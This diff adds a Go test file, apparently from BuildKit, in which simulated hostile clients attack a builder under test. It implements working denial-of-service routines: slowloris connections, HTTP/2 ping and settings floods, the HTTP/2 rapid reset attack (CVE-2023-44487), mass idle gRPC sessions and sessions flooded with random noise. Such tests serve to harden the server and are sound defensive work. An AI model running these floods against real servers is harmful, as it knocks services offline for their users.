@@ -1,0 +1,168 @@
+package hostile_test
+
+import (
+	"archive/tar"
+	"bytes"
+	"context"
+	"crypto/rand"
+	"fmt"
+	"net"
+	"sync"
+	"testing"
+	"time"
+
+	controlapi "github.com/moby/buildkit/api/services/control"
+	"github.com/moby/buildkit/identity"
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+	"google.golang.org/grpc/metadata"
+)
+
+// tarHeader is the head of a tar with one file of a size.
+func tarHeader(size int64) []byte {
+	var buf bytes.Buffer
+	if err := tar.NewWriter(&buf).WriteHeader(&tar.Header{Name: "file", Mode: 0o644, Size: size, Format: tar.FormatPAX}); err != nil {
+		panic(err) // of a header that is made here
+	}
+	return buf.Bytes()
+}
+
+// raw opens a connection on which HTTP/2 has begun, and reads what comes without an end.
+func (s *target) raw(ctx context.Context) (net.Conn, *http2.Framer, error) {
+	var dialer net.Dialer
+	conn, err := dialer.DialContext(ctx, "tcp", s.Builder.Addr)
+	if err != nil {
+		return nil, nil, err
+	}
+	context.AfterFunc(ctx, func() { _ = conn.Close() })
+	if _, err := conn.Write([]byte(http2.ClientPreface)); err != nil {
+		return nil, nil, err
+	}
+	framer := http2.NewFramer(conn, conn)
+	if err := framer.WriteSettings(); err != nil {
+		return nil, nil, err
+	}
+	go func() {
+		buf := make([]byte, 32<<10)
+		for {
+			if _, err := conn.Read(buf); err != nil {
+				return
+			}
+		}
+	}()
+	return conn, framer, nil
+}
+
+// slowLoris opens connections and sends a byte of them at a time, or nothing.
+func slowLoris(ctx context.Context, _ *testing.T, s *target) {
+	var wg sync.WaitGroup
+	for i := range 2000 {
+		var dialer net.Dialer
+		conn, err := dialer.DialContext(ctx, "tcp", s.Builder.Addr)
+		if err != nil {
+			break
+		}
+		wg.Go(func() {
+			defer func() { _ = conn.Close() }()
+			for j := 0; ctx.Err() == nil; j++ {
+				if i%2 == 0 {
+					if _, err := conn.Write([]byte{http2.ClientPreface[j%len(http2.ClientPreface)]}); err != nil {
+						return
+					}
+				}
+				select {
+				case <-ctx.Done():
+				case <-time.After(time.Second):
+				}
+			}
+		})
+	}
+	wg.Wait()
+}
+
+// flood opens connections and sends a frame on each as fast as it goes.
+func flood(ctx context.Context, s *target, frame func(f *http2.Framer, n uint32) error) {
+	repeat(ctx, 4, func(ctx context.Context) {
+		conn, framer, err := s.raw(ctx)
+		if err != nil {
+			return
+		}
+		defer func() { _ = conn.Close() }()
+		for n := uint32(0); ctx.Err() == nil; n++ {
+			if err := frame(framer, n); err != nil {
+				return
+			}
+		}
+	})
+}
+
+func pingFlood(ctx context.Context, _ *testing.T, s *target) {
+	flood(ctx, s, func(f *http2.Framer, _ uint32) error { return f.WritePing(false, [8]byte{1}) })
+}
+
+func settingsFlood(ctx context.Context, _ *testing.T, s *target) {
+	flood(ctx, s, func(f *http2.Framer, n uint32) error {
+		return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: n % (1 << 20)})
+	})
+}
+
+// rapidReset begins calls and resets each at once (CVE-2023-44487).
+func rapidReset(ctx context.Context, _ *testing.T, s *target) {
+	var head bytes.Buffer
+	enc := hpack.NewEncoder(&head)
+	for _, field := range [][2]string{
+		{":method", "POST"}, {":scheme", "http"}, {":path", "/moby.buildkit.v1.Control/Status"}, {":authority", s.Builder.Addr},
+		{"content-type", "application/grpc"}, {"te", "trailers"},
+	} {
+		_ = enc.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true})
+	}
+	flood(ctx, s, func(f *http2.Framer, n uint32) error {
+		stream := 2*n + 1
+		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head.Bytes(), EndHeaders: true}); err != nil {
+			return err
+		}
+		return f.WriteRSTStream(stream, http2.ErrCodeCancel)
+	})
+}
+
+// sessionAs opens a session with an id of its own.
+func sessionAs(ctx context.Context, control controlapi.ControlClient) (controlapi.Control_SessionClient, error) {
+	return control.Session(metadata.AppendToOutgoingContext(ctx,
+		"x-docker-expose-session-uuid", identity.NewID(),
+		"x-docker-expose-session-name", "",
+		"x-docker-expose-session-grpc-method", "/moby.filesync.v1.Auth/Credentials"))
+}
+
+// idleSessions opens sessions by the thousand, and uses none.
+func idleSessions(ctx context.Context, t *testing.T, s *target) {
+	control := controlapi.NewControlClient(s.dial(t))
+	for range 2000 {
+		if _, err := sessionAs(ctx, control); err != nil {
+			break
+		}
+	}
+	<-ctx.Done()
+}
+
+// garbageSessions opens sessions and sends in them what is no HTTP/2, named by builds.
+func garbageSessions(ctx context.Context, t *testing.T, s *target) {
+	control := controlapi.NewControlClient(s.dial(t))
+	repeat(ctx, 16, func(ctx context.Context) {
+		ctx, cancel := context.WithTimeout(ctx, 2*time.Second)
+		defer cancel()
+		id := identity.NewID()
+		stream, err := control.Session(metadata.AppendToOutgoingContext(ctx,
+			"x-docker-expose-session-uuid", id, "x-docker-expose-session-grpc-method", fmt.Sprintf("/moby.filesync.v1.FileSync/%s", "DiffCopy")))
+		if err != nil {
+			return
+		}
+		go func() { _, _ = control.Solve(ctx, &controlapi.SolveRequest{Ref: identity.NewID(), Session: id, Frontend: "dockerfile.v0", Cache: &controlapi.CacheOptions{}}) }()
+		noise := make([]byte, 1<<20)
+		_, _ = rand.Read(noise)
+		for ctx.Err() == nil {
+			if err := stream.Send(&controlapi.BytesMessage{Data: noise}); err != nil {
+				return
+			}
+		}
+	})
+}
